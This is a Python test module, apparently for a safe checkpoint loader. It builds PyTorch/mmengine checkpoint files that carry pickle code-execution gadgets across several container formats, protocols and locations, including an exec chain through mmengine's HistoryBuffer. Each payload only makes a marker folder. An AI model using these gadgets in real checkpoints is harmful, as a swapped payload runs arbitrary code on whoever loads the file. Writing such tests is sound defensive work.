"""Checkpoints that would run code: harmless, each would make a folder."""

from __future__ import annotations

import io
import pickle
import tarfile
import types
from collections import OrderedDict
from pathlib import Path
from typing import Any

import torch

CONTAINERS = ('zip', 'legacy', 'tar', 'plain')
PLACES = ('root', 'optimizer', 'meta', 'state_dict')
GADGETS = ('reduce', 'build', 'inst', 'obj', 'getattr', 'stack_global')
PROTOCOLS = range(6)


class RunsCode:
    """A harmless stand-in for a malicious object: reading it writes a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return Path.write_text, (self.marker, 'this code ran')


class Code:
    """Operations of a pickle, written as they are where the object stands."""

    def __init__(self, operations: bytes) -> None:
        self.operations = operations


class _Pickler(pickle._Pickler):
    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Code):
            self.write(obj.operations)
        else:
            super().save(obj, save_persistent_id)


def _dump(obj: Any, file: Any, protocol: int | None = None) -> None:
    _Pickler(file, protocol).dump(obj)


PICKLE = types.ModuleType('pickle_with_code')
PICKLE.Pickler = _Pickler  # type: ignore[attr-defined]
PICKLE.dump = _dump  # type: ignore[attr-defined]


def gadget(kind: str, marker: Path) -> Code:
    """Operations that make the folder `marker`, if they are carried out, and leave one object."""
    path = b"S'%b'\n" % str(marker).encode()
    # getattr(getattr(getattr, '__self__'), 'exec')
    history = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
    get = b'cbuiltins\ngetattr\n'
    execute = get + b'(' + get + b'(' + get + b"S'__self__'\ntRS'exec'\ntR"
    source = b"S'import os; os.mkdir(%b)'\n" % repr(str(marker)).replace("'", '"').encode()
    return Code(
        {
            'reduce': b'cposix\nmkdir\n(' + path + b'tR',
            'build': history + b')\x81(dS"__setstate__"\ncposix\nmkdir\nsb' + path + b'b',
            'inst': b'(' + path + b'iposix\nmkdir\n',
            'obj': b'(cposix\nmkdir\n' + path + b'o',
            # BUILD calls the object's own __setstate__, which is exec by now.
            'getattr': history + b')\x81(dS"__setstate__"\n' + execute + b'sb' + source + b'b',
            'stack_global': b"S'posix'\nS'mkdir'\n\x93(" + path + b'tR',
        }[kind]
    )


def content_with(code: Code, place: str, protocol: int) -> Any:
    """A training state with the code in one of its parts."""
    if place == 'root':
        return code
    # Tensors need a protocol that can name their memory.
    weights = {'a.weight': torch.ones(2, 3)} if protocol else {}
    content: dict[str, Any] = {
        'state_dict': OrderedDict(weights),
        'meta': {'epoch': 1, 'iter': 1},
        'optimizer': {'state': {}, 'param_groups': []},
        'message_hub': {'log_scalars': {}, 'runtime_info': {}, 'resumed_keys': {}},
    }
    content[place]['extra'] = code
    return content


def write_payload(
    path: Path, marker: Path, container: str, place: str, kind: str, protocol: int
) -> Path:
    """Write a checkpoint that would make the folder `marker`."""
    content = content_with(gadget(kind, marker), place, protocol)
    if container in ('zip', 'legacy'):
        torch.save(
            content,
            path,
            pickle_module=PICKLE,
            pickle_protocol=protocol,
            _use_new_zipfile_serialization=container == 'zip',
        )
        return path
    stream = io.BytesIO()
    plain = content_with(gadget(kind, marker), place, 0)
    _dump(plain, stream, protocol)
    if container == 'plain':
        path.write_bytes(stream.getvalue())
        return path
    with tarfile.open(path, 'w') as archive:
        for name in ('storages', 'tensors', 'pickle'):
            member = tarfile.TarInfo(name)
            member.size = len(stream.getvalue())
            archive.addfile(member, io.BytesIO(stream.getvalue()))
    return path
